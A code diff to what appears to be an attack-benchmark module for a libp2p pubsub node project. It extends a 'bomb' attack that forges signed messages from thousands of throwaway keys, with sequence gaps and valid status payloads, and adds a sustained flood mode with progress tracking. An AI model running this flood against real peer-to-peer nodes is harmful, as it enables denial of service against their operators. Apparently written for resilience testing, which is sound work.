@@ -39,21 +39,30 @@ from nacl.signing import SigningKey
 
 from fognode.node.gossip import KIND_MESSAGE, seal
 from fognode.node.peerid import peer_id_from_pubkey
+from fognode.protocols.monitor.status import NodeStatus
 from fognode.tools.bench.attacks import hostile_peer
 
 STATUS_TOPIC = "fognode/monitor/status/1"
 PUBSUB_SIGNING_PREFIX = b"libp2p-pubsub:"
 
 
+def valid_status() -> bytes:
+    """A status the monitor role accepts: the bomb is about gaps, not content (a status that
+    does not decode is refused before any tracking, protocols/monitor/protocol.py)."""
+    return NodeStatus(healthy=True, peers=1, uptime_s=1.0, version="bomb", at=time.time()).encode()
+
+
 def forged_pubsub_messages(key: SigningKey, topic: str, seqs: tuple[int, ...],
-                           epoch: int) -> list[object]:
-    """libp2p pubsub messages carrying envelopes of `key` (one per seq), each signed by `key`
-    exactly as py-libp2p's `Pubsub.publish` signs its own (so `strict_signing` accepts them)."""
+                           epoch: int, data: bytes | None = None) -> list[object]:
+    """libp2p pubsub messages carrying envelopes of `key` (one per seq) with `data` (16
+    random bytes if None), each signed by `key` exactly as py-libp2p's `Pubsub.publish` signs
+    its own (so `strict_signing` accepts them)."""
     from libp2p.pubsub.pb import rpc_pb2
     from_id = base58.b58decode(peer_id_from_pubkey(bytes(key.verify_key)))   # raw peer id
     out: list[object] = []
     for seq in seqs:
-        env = seal(key, KIND_MESSAGE, epoch, topic, seq, os.urandom(16))
+        env = seal(key, KIND_MESSAGE, epoch, topic, seq,
+                   os.urandom(16) if data is None else data)
         msg = rpc_pb2.Message(data=env.raw, topicIDs=[topic], from_id=from_id,
                               seqno=os.urandom(8))
         msg.signature = key.sign(PUBSUB_SIGNING_PREFIX + msg.SerializeToString()).signature
@@ -63,10 +72,14 @@ def forged_pubsub_messages(key: SigningKey, topic: str, seqs: tuple[int, ...],
 
 async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int = 4096,
                  first_seq: int = 1000, burst: float = 2.0, batch: int = 50,
-                 topic: str = STATUS_TOPIC) -> dict[str, float]:
+                 topic: str = STATUS_TOPIC, until: trio.Event | None = None,
+                 progress: dict[str, float] | None = None) -> dict[str, float]:
     """Bomb `target` (a multiaddr ending in /p2p/<peer id>) for at most `seconds`; returns
     counts: origins used, messages and RPCs written, write failures, seconds spent building
-    and sending. Raises DialError when the target cannot be reached."""
+    and sending. With `until`, the messages are written again and again at the same rate
+    (a flood that lasts) until that event is set, and the attack returns then; `progress`,
+    if given, holds the counts as they grow. Raises DialError when the target cannot be
+    reached."""
     from libp2p.peer.id import ID
     from libp2p.pubsub.pb import rpc_pb2
 
@@ -74,9 +87,11 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
     deadline = trio.current_time() + seconds
     epoch = time.time_ns() // 1_000_000
     msgs: list[object] = []
+    status = valid_status()
     for _ in range(origins):
         key = SigningKey(os.urandom(32))
-        msgs.extend(forged_pubsub_messages(key, topic, (first_seq, first_seq + gap), epoch))
+        msgs.extend(forged_pubsub_messages(key, topic, (first_seq, first_seq + gap), epoch,
+                                           status))
     built = time.monotonic() - started
     sent = rpcs = failed = 0
     async with hostile_peer(target) as hp:
@@ -87,8 +102,10 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
                 await trio.sleep(0.01)
         t0 = trio.current_time()
         batches = [msgs[i:i + batch] for i in range(0, len(msgs), batch)]
-        for i, part in enumerate(batches):
-            if trio.current_time() >= deadline:
+        rounds = 1 if until is None else 1 << 30
+        for i in range(len(batches) * rounds):
+            part = batches[i % len(batches)]
+            if trio.current_time() >= deadline or (until is not None and until.is_set()):
                 break
             stream = pubsub.peers.get(victim)
             if stream is None or not await pubsub.write_msg(
@@ -97,10 +114,14 @@ async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int =
             else:
                 sent += len(part)
                 rpcs += 1
+            if progress is not None:
+                progress.update(messages_sent=float(sent), rpcs=float(rpcs),
+                                messages_failed=float(failed))
             # spread the batches evenly over `burst` seconds
             await trio.sleep_until(t0 + burst * (i + 1) / len(batches))
         sending = trio.current_time() - t0
-        await trio.sleep_until(deadline)   # stay connected: the victim pulls from us
+        with trio.move_on_at(deadline):    # stay connected: the victim pulls from us
+            await (until.wait() if until is not None else trio.sleep_forever())
     return {"origins": float(origins), "messages_sent": float(sent), "rpcs": float(rpcs),
             "messages_failed": float(failed), "build_s": round(built, 3),
             "send_s": round(sending, 3)}
